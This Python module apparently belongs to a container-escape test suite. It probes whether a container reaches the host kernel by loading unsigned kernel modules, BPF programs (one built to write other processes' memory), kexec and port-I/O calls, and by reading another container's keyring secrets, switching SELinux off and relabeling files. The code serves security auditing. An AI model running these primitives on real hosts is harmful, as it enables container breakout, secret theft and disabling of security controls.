"""The kernel itself, by its system calls: modules, BPF, tracing, keys, labels, another kernel."""

from __future__ import annotations

import ctypes
import os
import struct
import time
from pathlib import Path

from escape import kit
from escape.attempt import CDK, SECRET, Case, Refused, attempt

SUPER = "superpowered: root on the node; the next boot knows nothing of it"


@attempt(
    "module-unsigned",
    f"{CDK}: capabilities (SYS_MODULE)",
    "loads a kernel module whose signature was cut off",
    "the kernel lists the module",
    short=True,
)
def module_unsigned(case: Case) -> str:
    plain = case.module.split(b"~Module signature appended~")[0]
    length = struct.unpack(">I", plain[-4:])[0]
    return _load(plain[: -12 - length])


@attempt(
    "module-signed",
    f"{CDK}: capabilities (SYS_MODULE)",
    "loads a module that Debian signed, brought along",
    "the kernel lists the module",
    allowed={"admin": "superpowered: the module is Debian's own, and lockdown checks that"},
)
def module_signed(case: Case) -> str:
    return _load(case.module)


def _load(data: bytes) -> str:
    buffer = ctypes.create_string_buffer(data, len(data))
    kit.call("init_module", ctypes.c_void_p(ctypes.addressof(buffer)), len(data), b"")
    rows = Path("/proc/modules").read_text().splitlines()
    kit.call("delete_module", b"dummy", 0)
    return kit.told(row for row in rows if row.startswith("dummy "))


def _program(instructions: bytes, kind: int) -> int:
    code = ctypes.create_string_buffer(instructions, len(instructions))
    licence = ctypes.create_string_buffer(b"GPL")
    attr = struct.pack(
        "=IIQQIIQII", kind, len(instructions) // 8, ctypes.addressof(code),
        ctypes.addressof(licence), 0, 0, 0, 0, 0,
    ).ljust(128, b"\0")  # fmt: skip
    return kit.call("bpf", 5, attr, len(attr))


RETURN_0 = struct.pack("=BBhi", 0xB7, 0, 0, 0) + struct.pack("=BBhi", 0x95, 0, 0, 0)


@attempt(
    "bpf-load",
    f"{CDK}: capabilities (BPF, SYS_ADMIN)",
    "loads a BPF program that can be put on any function of the kernel",
    "the kernel takes the program",
    allowed={"admin": SUPER},
)
def bpf_load(case: Case) -> str:
    return f"program {_program(RETURN_0, 2)}"  # BPF_PROG_TYPE_KPROBE


@attempt(
    "bpf-write-user",
    "offensive BPF: bpf_probe_write_user",
    "loads a BPF program that writes other processes' memory",
    "the kernel takes the program",
)
def bpf_write_user(case: Case) -> str:
    code = b"".join(
        struct.pack("=BBhi", *row)
        for row in (
            (0x7A, 10, -8, 0), (0xB7, 1, 0, 0), (0xBF, 0xA2, 0, 0), (0x07, 2, 0, -8),
            (0xB7, 3, 0, 8), (0x85, 0, 0, 36),
        )
    )  # fmt: skip
    return f"program {_program(code + RETURN_0, 2)}"


@attempt(
    "perf-whole-machine",
    f"{CDK}: capabilities (PERFMON)",
    "counts events of every process on a processor",
    "the kernel opens the counter",
    allowed={"admin": SUPER},
)
def perf_whole_machine(case: Case) -> str:
    attr = struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0")
    return f"counter {kit.call('perf_event_open', attr, -1, 0, -1, 0)}"


@attempt(
    "kexec",
    "kexec: another kernel past the verified boot",
    "loads another kernel by kexec_load",
    "/sys/kernel/kexec_loaded says 1",
    control="the units of host containers filter the call, for all that root starts from one",
)
def kexec(case: Case) -> str:
    page = ctypes.create_string_buffer(4096)
    segment = struct.pack("=QQQQ", ctypes.addressof(page), 4096, 0x1000000, 4096)
    kit.call("kexec_load", 0x1000000, 1, segment, 62 << 16)
    said = Path("/sys/kernel/kexec_loaded").read_text()
    kit.call("kexec_load", 0, 0, None, 62 << 16)
    return kit.told(["loaded"] if said.strip() == "1" else [])


@attempt(
    "iopl",
    f"{CDK}: capabilities (SYS_RAWIO)",
    "takes the right to talk to devices by ports",
    "the kernel grants it",
)
def iopl(case: Case) -> str:
    kit.call("iopl", 3)
    return "level 3"


@attempt(
    "clock",
    f"{CDK}: capabilities (SYS_TIME)",
    "sets the node's clock by one second",
    "the clock has jumped",
    allowed={"admin": SUPER},
)
def clock(case: Case) -> str:
    before = time.time() - time.monotonic()
    time.clock_settime(time.CLOCK_REALTIME, time.time() + 1)
    jump = time.time() - time.monotonic() - before
    time.clock_settime(time.CLOCK_REALTIME, time.time() - 1)
    if jump < 0.5:
        raise Refused(f"{jump:.3f} s")
    return f"{jump:.1f} s"


@attempt(
    "keyring",
    "keyctl-unmask: keys are not in a namespace",
    "reads the keys of the user root, which every container's root is",
    "a key that another container keeps",
    seen=f"{SECRET}key",
    allowed={"admin": "the key is planted from a superpowered container: they are one user"},
)
def keyring(case: Case) -> str:
    buffer = ctypes.create_string_buffer(4096)
    address = ctypes.c_void_p(ctypes.addressof(buffer))
    kit.call("keyctl", 8, -4, -3)  # the user's keys into our session: then they are in our hands
    key = kit.call("keyctl", 10, -4, b"user", b"escape", 0)
    size = kit.call("keyctl", 11, key, address, len(buffer))
    return kit.told(kit.secrets(buffer.raw[:size]))


@attempt(
    "selinux-off",
    "setenforce 0",
    "mounts selinuxfs and writes 0 to its switch",
    "the switch says 0",
    control="SELinux is not there",
    short=True,
)
def selinux_off(case: Case) -> str:
    with kit.mounted("selinuxfs", "selinuxfs") as where:
        return kit.put(f"{where}/enforce", "0")


@attempt(
    "relabel",
    "CVE-2025-52881 aims at labels; any root without SELinux can set them",
    "gives a file of its own the label of the node's first program",
    "the label is read back",
    short=True,
)
def relabel(case: Case) -> str:
    file = f"/run/{case.token}"
    Path(file).write_text("x")
    label = b"system_u:object_r:init_exec_t:s0"
    os.setxattr(file, "security.selinux", label)
    return os.getxattr(file, "security.selinux").decode()
